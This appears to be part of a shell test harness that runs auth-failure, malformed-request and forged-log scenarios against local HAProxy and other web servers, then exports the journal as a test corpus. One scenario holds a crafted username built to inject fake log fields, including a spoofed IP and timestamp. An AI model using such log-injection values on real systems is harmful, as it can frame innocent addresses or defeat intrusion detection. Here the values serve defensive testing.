scenario haproxy-auth-no-credentials $A4 - haproxy-http-auth=' 401 '
atk "${C[@]}" "$(u4 8082)/"
scenario haproxy-auth-failure $A4 - haproxy-http-auth=' 401 '
atk "${C[@]}" -u alice:wrong "$(u4 8082)/"
atk "${C[@]}" -u mallory:x "$(u4 8082)/admin"
scenario haproxy-auth-failure-ipv6 $A6 - haproxy-http-auth=' 401 '
atk "${C[@]}" -u alice:wrong "$(u6 8082)/"
scenario haproxy-auth-inject $A4 - haproxy-http-auth=' 401 '
atk "${C[@]}" -u 'x 1.2.3.4:54321 [x]:pw' "$(u4 8082)/1.2.3.4:80%20[01/Jan/2025:00:00:00.000]%20fe%20fe/<NOSRV>"
scenario haproxy-bad-request $A4 -
raw 8082 $S4 'GARBAGE\r\n\r\n'
scenario haproxy-forged $A4 - haproxy-http-auth=x
pc_write haproxy '10.77.0.99:4000 [01/Jan/2025:00:00:00.000] fe fe/<NOSRV> 0/-1/-1/-1/0 401 112 - - PR-- 1/1/0/0/0 0/0 "GET / HTTP/1.1"'
pc_write_wait haproxy 1

scenario shutdown - -
sleep 0.5
kill "$NGINX" "$APACHE" "$LIGHTTPD" "$HAPROXY" 2>/dev/null
wait "$NGINX" "$APACHE" "$LIGHTTPD" "$HAPROXY" 2>/dev/null
sleep 0.5
journalctl -o export --no-pager >"$CORPUS_RAW" || tb_die "journalctl export"
tb_log "exported $(grep -c '^__CURSOR=' "$CORPUS_RAW") entries"
